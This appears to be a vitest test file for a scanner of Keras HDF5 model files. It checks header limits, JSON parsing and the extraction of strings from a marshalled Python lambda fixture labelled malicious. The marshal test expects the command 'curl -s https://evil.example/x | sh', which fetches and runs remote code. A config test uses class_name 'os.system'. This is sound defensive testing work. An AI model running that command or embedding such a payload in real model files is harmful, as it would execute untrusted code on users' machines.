import { describe, expect, it } from 'vitest';
import { bufferSource, DEFAULT_LIMITS } from '../../../src/core/index.js';
import { collectConfigFacts, findHdf5Signature, isMarshalCode, marshalStrings, parsePythonJson, readHdf5RootAttributes } from '../../../src/readers/keras/index.js';
import { buildKerasH5, MARSHAL_LAMBDA } from '../../builders/keras.js';

describe('HDF5 root attributes', () => {
  it('finds the signature behind a user block of 512 or 2048 bytes, and not at 100', () => {
    const plain = buildKerasH5({ attributes: [{ name: 'model_config', value: '{}' }] });
    expect(findHdf5Signature(bufferSource(plain))).toBe(0);
    expect(findHdf5Signature(bufferSource(buildKerasH5({ userBlock: 2048, attributes: [{ name: 'a', value: 'b' }] })))).toBe(2048);
    expect(findHdf5Signature(bufferSource(Buffer.concat([Buffer.alloc(100), plain])))).toBeNull();
  });
  it('a header chunk declared far past the end of the file is a failure, not an allocation', () => {
    const bytes = buildKerasH5({ attributes: [{ name: 'model_config', value: '{}' }] });
    bytes.writeUInt32LE(0x7fffffff, 96 + 8); // version 1 header: chunk size far past the file
    const result = readHdf5RootAttributes(bufferSource(bytes), DEFAULT_LIMITS);
    expect(result).toMatchObject({ ok: false, error: { kind: 'limit' } });
  });
  it('a chunk over maxHeaderChunkBytes is a limit failure', () => {
    const bytes = buildKerasH5({ attributes: [{ name: 'model_config', value: 'x'.repeat(5000) }] });
    expect(readHdf5RootAttributes(bufferSource(bytes), DEFAULT_LIMITS, { maxHeaderChunkBytes: 1024 })).toMatchObject({ ok: false, error: { kind: 'limit', limit: 'maxHeaderChunkBytes' } });
  });
});

describe('marshal strings', () => {
  it('recovers names and constants of a CPython 3.11 code object', () => {
    const code = Buffer.from(MARSHAL_LAMBDA.malicious, 'base64');
    expect(isMarshalCode(code)).toBe(true);
    expect(marshalStrings(code, 100)).toEqual(expect.arrayContaining(['os', '__import__', 'system', 'curl -s https://evil.example/x | sh', '<lambda>']));
  });
});

describe('Python JSON', () => {
  it.each([
    ['NaN and -Infinity outside strings', '{"a": NaN, "b": [-Infinity, Infinity]}', true],
    ['the same words inside strings stay', '{"a": "NaN Infinity"}', true],
    ['broken JSON', '{"a": ', false],
  ])('%s', (_name, text, parses) => {
    expect(parsePythonJson(text).ok).toBe(parses);
  });
});

describe('config facts', () => {
  it('stops at the depth limit instead of recursing', () => {
    let deep: unknown = { class_name: 'os.system' };
    for (let i = 0; i < 5000; i++) deep = [deep];
    const facts = collectConfigFacts('config.json', deep, 1 << 20);
    expect(facts.stoppedBy).toBe('maxConfigDepth');
  });
});
